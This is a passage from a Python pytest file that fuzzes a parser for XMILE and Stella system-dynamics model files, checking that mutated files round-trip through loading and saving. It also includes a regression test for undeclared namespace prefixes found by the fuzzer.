    except Exception as error:
        return f"{what}: saving or reading back raised {type(error).__name__}: {error}"
    if again != doc:
        return f"{what}: the saved document reads back different"
    if dumps(again) != saved:
        return f"{what}: saving again gives other bytes"
    return None


def run_fuzz(sources: list[tuple[str, bytes]], count: int, seed: int) -> int:
    rng = random.Random(seed)
    failures = []
    for i in range(count):
        name, data = sources[i % len(sources)]
        mutant, what = mutate(data, rng)
        problem = check(mutant, f"{name} #{i} (seed {seed}) [{what}]")
        if problem:
            failures.append(problem)
    assert failures == [], f"{len(failures)} of {count} mutants failed; first: " + "\n".join(failures[:5])
    return count


FUZZ_CHUNKS = 10


@pytest.mark.parametrize("chunk", range(FUZZ_CHUNKS))
def test_fuzz_builtin_sample(chunk):
    assert check(SAMPLE.encode(), "sample") is None
    # 3,000 mutants in all when the conformance suite is not there to add its own
    count = 150 if _suite_files() else 300
    sources = [("sample", SAMPLE.encode()), ("minimal", MODEL.encode()), ("unclosed", UNCLOSED_FLOW.encode())]
    run_fuzz(sources, count=count, seed=1000 + chunk)


def _suite_files() -> list[Path]:
    if not SUITE.is_dir():
        return []
    return sorted(p for p in SUITE.rglob("*") if p.suffix.lower() in (".xmile", ".stmx") and p.is_file())


@pytest.mark.parametrize("chunk", range(FUZZ_CHUNKS))
def test_fuzz_conformance_files(chunk):
    files = _suite_files()
    if not files:
        pytest.skip(f"the conformance suite is not at {SUITE}")
    # every file gets mutants; each chunk starts at another file
    sources = [(p.relative_to(SUITE).as_posix(), p.read_bytes()) for p in files]
    sources = sources[chunk * 12 :] + sources[: chunk * 12]
    run_fuzz(sources, count=250, seed=2000 + chunk)


def test_a_fuzzed_file_with_names_of_undeclared_prefixes_loads_and_saves(tmp_path):
    # Found by the fuzzer (seed 7, case 5550): damage to a Stella file that never declares its
    # isee: prefix leaves lxml's recovery with "isee:prefs" and "isee:simulation_delay" as plain
    # names, which nothing can write back. They are left out, with a warning for each.
    source = SUITE / "tests" / "active_initial" / "test_active_initial.stmx"
    if not source.is_file():
        pytest.skip(f"the conformance suite is not at {SUITE}")
    text = source.read_text(encoding="utf-8")
    text = text.replace("<doc>\tThe initial time", '<doc xmlns:isee="-inf">\tThe initial time', 1)
    text = text.replace('angle="-85.426078740099229"', 'angle="426078740099229"', 1)
    text = text.replace('<flow name="Flow_A"', '<flow xmlns="inf" name="Flow_A"', 1)
    doc, warnings, path = loaded(tmp_path, text.encode())
    assert any("left out <isee:prefs>" in w for w in warnings)
    assert any("left out the attribute isee:simulation_delay" in w for w in warnings)
    assert parse(dumps(doc), path)[0] == doc
